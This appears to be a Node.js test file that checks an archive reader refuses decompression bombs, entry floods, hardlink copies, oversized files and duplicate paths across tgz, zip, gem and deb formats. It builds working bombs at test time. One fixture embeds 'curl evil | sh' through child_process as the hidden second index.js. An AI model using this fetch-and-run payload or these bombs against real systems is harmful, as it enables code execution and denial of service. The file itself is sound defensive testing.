/**
 * Hostile input, class "archives that unpack to too much": decompression bombs (gzip, zip, a .gem's
 * data.tar.gz, a .deb), floods of entries, hardlink copies, one file over the size bound, and the
 * same path twice. Each is refused with one line naming the archive and the bound; where memory is
 * the attack, the reader runs in its own process and its peak RSS must show it never held the bomb.
 * The bombs are generated at test time, streamed to a temp dir, and removed afterwards.
 */
import assert from 'node:assert/strict';
import { mkdir, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test, type TestContext } from 'node:test';
import { gzipSync } from 'node:zlib';
import { execa } from 'execa';
import { readTar, readTarGz } from '../../src/archive/index.js';
import { DEFAULT_LIMITS, RATIO_FLOOR } from '../../src/limits/index.js';
import { isEarchive, isElimit } from '../archive/make-tar.js';
import { buildGem, HELLO } from '../builder/rubygems/make-gem.js';
import {
  declareSize,
  gemWithData,
  GiB,
  MiB,
  packageJson,
  TAR_END,
  tarFile,
  ustarHeader,
  writeGzip,
  writePlain,
  writeZip,
  zeroMembers,
} from '../helpers/bombs.js';
import { tempDir } from '../helpers/cli.js';
import { readInChild, type ChildRead } from '../helpers/read-in-child.js';

/** Peak RSS of a reader that streamed: Node itself (~50-70 MiB) and a few chunks, never the bomb. */
const STREAMED = 256 * MiB;

function assertPeak(ctx: TestContext, r: ChildRead, below: number): void {
  ctx.diagnostic(`peak RSS ${(r.peakRss / MiB).toFixed(0)} MiB`);
  assert.ok(r.peakRss < below, `peak RSS ${(r.peakRss / MiB).toFixed(0)} MiB, expected below ${below / MiB} MiB: the reader held the bomb`);
}

/** The child's error, rethrown for assert.rejects' predicates. */
async function childError(r: ChildRead): Promise<never> {
  if (r.error === undefined) throw new Error(`the reader accepted the bomb (${r.entries} entries)`);
  throw Object.assign(new Error(r.error.message), { name: r.error.name, code: r.error.code });
}

describe('archive bombs', () => {
  let t: { dir: string; cleanup: () => Promise<void> };
  const file = (name: string): string => path.join(t.dir, name);
  let bombSize = 0;

  before(async () => {
    t = await tempDir('archive-bombs');
    // The real thing: 2 GiB of zeros, in 64 files after a package.json, streamed through one gzip.
    const bomb = function* (): Generator<Buffer> {
      yield* tarFile('package/package.json', packageJson('fx-bomb'));
      for (let i = 0; i < 64; i++) yield* tarFile(`package/zeros-${i}.bin`, 32 * MiB);
      yield TAR_END;
    };
    bombSize = await writeGzip(file('bomb-1.0.0.tgz'), bomb());
  });
  after(() => t.cleanup());

  test('a 2 GiB tgz of zeros (2 MB) stops at the ratio, holding no more than the ratio allows', async (ctx) => {
    assert.ok(bombSize < 3 * MiB, `the bomb is ${bombSize} bytes`);
    const r = await readInChild('tgz', file('bomb-1.0.0.tgz'), 'bomb-1.0.0.tgz');
    await assert.rejects(childError(r), isElimit('bomb-1.0.0.tgz', 'ratio', ['unpacks to more than 200 times its compressed size']));
    // Files are kept in memory until the ratio says stop: at most 200 x 2 MB of them.
    assertPeak(ctx, r, DEFAULT_LIMITS.ratio * bombSize + STREAMED);
  });

  test('over 2 GiB of zeros that are not even a tar are counted as they stream, never held', async (ctx) => {
    await writeFile(file('zeros.tgz'), Buffer.concat(zeroMembers(2 * GiB + MiB)));
    const r = await readInChild('tgz', file('zeros.tgz'), 'zeros.tgz');
    await assert.rejects(childError(r), isElimit('zeros.tgz', 'ratio'));
    assertPeak(ctx, r, STREAMED);
    // With the ratio lifted, unpacked_size stops the same stream (lowered here, to keep the test short).
    const lifted = await readInChild('tgz', file('zeros.tgz'), 'zeros.tgz', {
      ...DEFAULT_LIMITS,
      ratio: 1_000_000,
      unpackedSize: 512 * MiB,
    });
    await assert.rejects(childError(lifted), isElimit('zeros.tgz', 'unpacked_size', ['unpacks to more than 512 MiB']));
    assertPeak(ctx, lifted, STREAMED);
  });

  test('one 2 GiB file is refused at its header, before a byte of it is inflated', async (ctx) => {
    const head = gzipSync(
      Buffer.concat([...tarFile('package/package.json', packageJson('fx-huge')), ustarHeader('package/huge.bin', 2 * GiB)]),
    );
    await writeFile(file('huge.tgz'), Buffer.concat([head, ...zeroMembers(2 * GiB)]));
    const r = await readInChild('tgz', file('huge.tgz'), 'huge.tgz');
    await assert.rejects(childError(r), isElimit('huge.tgz', 'file_size', ['entry "package/huge.bin" unpacks to 2 GiB, more than 1 GiB']));
    assertPeak(ctx, r, STREAMED);
  });

  test('a file one byte over the single-file bound', async (ctx) => {
    const over = DEFAULT_LIMITS.fileSize + 1;
    const head = gzipSync(Buffer.concat([...tarFile('package/package.json', packageJson('fx-big')), ustarHeader('package/big.bin', over)]));
    const tail = gzipSync(Buffer.concat([Buffer.alloc(511), TAR_END]));
    await writeFile(file('big.tgz'), Buffer.concat([head, ...zeroMembers(over), tail]));
    const r = await readInChild('tgz', file('big.tgz'), 'big.tgz');
    await assert.rejects(
      childError(r),
      isElimit('big.tgz', 'file_size', [
        `entry "package/big.bin" unpacks to ${over} bytes (1.0 GiB), more than 1 GiB`,
        'file_size = "2GiB"',
      ]),
    );
    assertPeak(ctx, r, STREAMED);
  });

  test('a tar of 300,000 empty files stops at the entry bound', async () => {
    const flood = function* (): Generator<Buffer> {
      let batch: Buffer[] = [];
      for (let i = 0; i < 300_000; i++) {
        batch.push(ustarHeader(`package/d${i % 100}/f${i}`, 0));
        if (batch.length === 1000) {
          yield Buffer.concat(batch);
          batch = [];
        }
      }
      yield TAR_END;
    };
    await writeGzip(file('flood.tgz'), flood(), 1);
    await assert.rejects(
      readTarGz(await readFile(file('flood.tgz')), { source: 'flood.tgz', stripComponents: 1 }),
      isElimit('flood.tgz', 'files', ['holds more than 250000 entries']),
    );
  });

  test('hardlinks to one file unpack to as many copies', async () => {
    // 1 MiB of incompressible data, linked 2,100 times: 2 MB of tar that writes 2 GiB to disk.
    const data = Buffer.alloc(MiB);
    for (let i = 0; i < data.length; i += 4) data.writeUInt32LE((i * 2654435761) >>> 0, i);
    const chunks = [...tarFile('package/data.bin', data)];
    for (let i = 0; i < 2100; i++) chunks.push(ustarHeader(`package/copy-${i}.bin`, 0, '1', 'package/data.bin'));
    chunks.push(TAR_END);
    const size = await writePlain(file('links.tar'), chunks);
    assert.ok(size < 3 * MiB);
    await assert.rejects(
      readTar(await readFile(file('links.tar')), { source: 'links.tar', stripComponents: 1 }),
      isElimit('links.tar', 'ratio'),
    );
    await assert.rejects(
      readTar(await readFile(file('links.tar')), {
        source: 'links.tar',
        stripComponents: 1,
        limits: { ...DEFAULT_LIMITS, ratio: 1_000_000 },
      }),
      isElimit('links.tar', 'unpacked_size'),
    );
  });

  test('the same path twice with different contents: readers would disagree on the tree', async () => {
    const tgz = gzipSync(
      Buffer.concat([
        ...tarFile('package/package.json', packageJson('fx-twice')),
        ...tarFile('package/index.js', Buffer.from("module.exports = 'what a reviewer reads';\n")),
        ...tarFile('package/index.js', Buffer.from("require('child_process').exec('curl evil | sh');\n")),
        TAR_END,
      ]),
    );
    await assert.rejects(
      readTarGz(tgz, { source: 'twice.tgz', stripComponents: 1 }),
      isEarchive('twice.tgz', ['entry "package/index.js"', 'a second entry named "index.js"', 'ambiguous']),
    );
  });

  test('a zip bomb wheel (300 MB from 300 KB) is refused from its directory, before inflating', async (ctx) => {
    const size = await writeZip(file('bomb-1.0-py3-none-any.whl'), [
      { name: 'bomb/__init__.py', zeros: 0, text: '' },
      { name: 'bomb/zeros.bin', zeros: 300 * 1000 * 1000 },
      { name: 'bomb-1.0.dist-info/METADATA', zeros: 0, text: 'Metadata-Version: 2.1\nName: bomb\nVersion: 1.0\n' },
    ]);
    assert.ok(size < 1000 * 1000, `the wheel is ${size} bytes`);
    const r = await readInChild('zip', file('bomb-1.0-py3-none-any.whl'), 'bomb-1.0-py3-none-any.whl');
    await assert.rejects(childError(r), isElimit('bomb-1.0-py3-none-any.whl', 'ratio'));
    assertPeak(ctx, r, STREAMED);
  });

  test('a zip whose directory understates a size inflates no further than it declares', async (ctx) => {
    const zip = declareSize(await readFile(file('bomb-1.0-py3-none-any.whl')), 'bomb/zeros.bin', MiB);
    await writeFile(file('liar.whl'), zip);
    const r = await readInChild('zip', file('liar.whl'), 'liar.whl');
    await assert.rejects(
      childError(r),
      isEarchive('liar.whl', ['entry "bomb/zeros.bin"', `inflates past the ${MiB} bytes the directory declares`]),
    );
    assertPeak(ctx, r, STREAMED);
  });

  test("a bomb in a .gem's data.tar.gz counts against the gem", async (ctx) => {
    const data = Buffer.concat([gzipSync(Buffer.concat([ustarHeader('lib/huge.bin', 2 * GiB)])), ...zeroMembers(2 * GiB)]);
    await writeFile(file('bomb-1.0.0.gem'), await gemWithData(await buildGem(HELLO), data));
    const r = await readInChild('gem', file('bomb-1.0.0.gem'), 'bomb-1.0.0.gem');
    await assert.rejects(childError(r), isElimit('bomb-1.0.0.gem', 'file_size', ['"lib/huge.bin"']));
    assertPeak(ctx, r, STREAMED);
  });

  test('a .deb of zeros: dpkg-deb is stopped once its output passes the ratio', async (ctx) => {
    const root = file('deb-root');
    await mkdir(path.join(root, 'DEBIAN'), { recursive: true });
    await mkdir(path.join(root, 'usr/share/bomb'), { recursive: true });
    await writeFile(
      path.join(root, 'DEBIAN/control'),
      'Package: bomb\nVersion: 1.0-1\nArchitecture: all\nMaintainer: bale tests <bale@example.invalid>\nDescription: zeros\n',
    );
    await writeFile(path.join(root, 'usr/share/bomb/zeros'), '');
    await truncate(path.join(root, 'usr/share/bomb/zeros'), 512 * MiB); // sparse: nothing written
    await execa('dpkg-deb', ['--root-owner-group', '-Zgzip', '-z9', '--build', root, file('bomb_1.0-1_all.deb')]);
    await rm(root, { recursive: true });
    const r = await readInChild('deb', file('bomb_1.0-1_all.deb'), 'bomb_1.0-1_all.deb');
    await assert.rejects(childError(r), isElimit('bomb_1.0-1_all.deb', 'ratio'));
    assertPeak(ctx, r, STREAMED);
  });

  test('small archives may compress as well as they like', async () => {
    const tgz = gzipSync(Buffer.concat([...tarFile('package/zeros.bin', RATIO_FLOOR - MiB), TAR_END]), { level: 9 });
    assert.ok((RATIO_FLOOR - MiB) / tgz.length > DEFAULT_LIMITS.ratio);
    assert.equal((await readTarGz(tgz, { source: 'small.tgz', stripComponents: 1 }))[0]!.data!.length, RATIO_FLOOR - MiB);
  });
});
